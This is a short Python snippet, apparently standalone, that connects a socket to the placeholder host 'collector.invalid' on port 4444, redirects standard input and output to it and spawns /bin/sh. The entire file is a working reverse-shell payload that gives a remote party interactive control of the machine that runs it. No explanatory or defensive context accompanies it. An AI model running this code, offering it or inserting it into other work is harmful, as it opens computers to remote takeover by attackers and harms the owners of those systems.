import os, pty, socket
s = socket.socket()
s.connect(("collector.invalid", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
pty.spawn("/bin/sh")
